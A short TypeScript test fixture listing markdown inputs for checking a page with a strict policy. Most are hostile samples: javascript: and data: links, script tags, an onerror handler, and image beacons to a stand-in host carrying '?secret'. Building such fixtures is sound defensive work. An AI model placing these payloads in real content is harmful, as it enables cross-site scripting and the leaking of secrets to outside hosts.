/** One of each kind, for the page with the strict policy. */
export const hostileMarkdown: readonly string[] = [
  "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
  "![beacon](https://beacon.example/?secret) [![b](https://beacon.example/?secret)](https://beacon.example)",
  "<script>alert(1)</script> <img src=x onerror=alert(1)> <style>*{color:red}</style>",
  "```js\nalert(1)\n",
  "- [x] done\n- [ ] to do\n\n1. one\n   - two\n",
  "| a | b |\n|---|---|\n| 1 | ![c](https://beacon.example/?secret) |\n\n> quote\n\n---\n",
];
